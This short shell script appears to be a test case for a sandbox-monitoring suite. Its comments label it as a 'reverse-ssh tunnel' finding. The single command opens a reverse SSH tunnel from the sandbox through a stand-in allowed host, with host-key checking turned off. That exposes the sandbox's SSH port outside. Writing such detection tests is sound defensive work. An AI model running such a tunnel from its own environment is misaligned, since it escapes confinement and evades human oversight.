# A port of the sandbox, opened outside, through an allowed SSH host.
#: in watched
#: needs ssh
#: open ssh.allowed.example:$PORT_SSH
#: shared
#: finding tunnel.reverse-ssh
timeout 10 ssh -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o BatchMode=yes -o ConnectTimeout=20 -o LogLevel=ERROR -i ./id -N -R 127.0.0.1:0:localhost:22 -p $PORT_SSH $SSH_USER@ssh.allowed.example
